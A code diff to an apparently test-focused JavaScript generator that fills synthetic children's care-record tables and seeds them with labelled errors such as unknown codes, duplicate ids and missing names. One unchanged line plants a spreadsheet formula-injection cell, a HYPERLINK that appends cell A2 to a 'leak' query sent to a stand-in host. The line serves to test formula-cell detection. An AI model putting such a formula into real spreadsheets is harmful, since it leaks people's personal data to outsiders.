@@ -6,7 +6,7 @@ export const COLUMNS = ['ChildUniqueID', 'Gender', 'Ethnicity', 'DateOfBirth', '
   'TypeOfAccommodation', 'SuitabilityOfAccommodation', 'ActivityStatus', 'FirstName', 'LastName'];
 export const CONTACT_COLUMNS = ['ChildUniqueID', 'Phone', 'Email', 'Address', 'PreferredChannel'];
 
-const ETHNICITY = 'WBRI WIRI WOTH WIRT WROM MWBC MWBA MWAS MOTH AIND APKN ABAN AOTH BCRB BAFR BOTH CHNE OOTH REFU NOBT'.split(' ')
+const ETHNICITY = 'WBRI WIRI WIRT WOTH WROM MWBC MWBA MWAS MOTH AIND APKN ABAN AOTH BCRB BAFR BOTH CHNE OOTH REFU NOBT'.split(' ')
   .map((code, i) => `${String.fromCharCode(97 + i)}) ${code}`);
 const HOMES = [['U: Independent living', 8], ['D: Semi-independent, transitional accommodation', 4], ['B: With parents or relatives', 3],
   ['E: Supported lodgings', 2], ['K: Ordinary lodgings', 1], ['C: Community home or other form of residential care', 1],
@@ -94,7 +94,8 @@ function spoil(table, columns, names) {
   note(at(0.25), 'unknown code');
   put(at(0.4), 'ChildUniqueID', table[at(0.02)][0]);
   note(at(0.4), 'second use of an id');
-  put(at(0.55), names ? 'FirstName' : 'ChildUniqueID', '');
+  // One name would do: some people have only one.
+  for (const column of names ? ['FirstName', 'LastName'] : ['ChildUniqueID']) put(at(0.55), column, '');
   note(at(0.55), names ? 'missing name' : 'missing id');
   put(at(0.7), names ? 'LastName' : 'AllocatedTeam', '=HYPERLINK("http://example.org/?leak="&A2,"Click me")');
   note(at(0.7), 'formula cell');
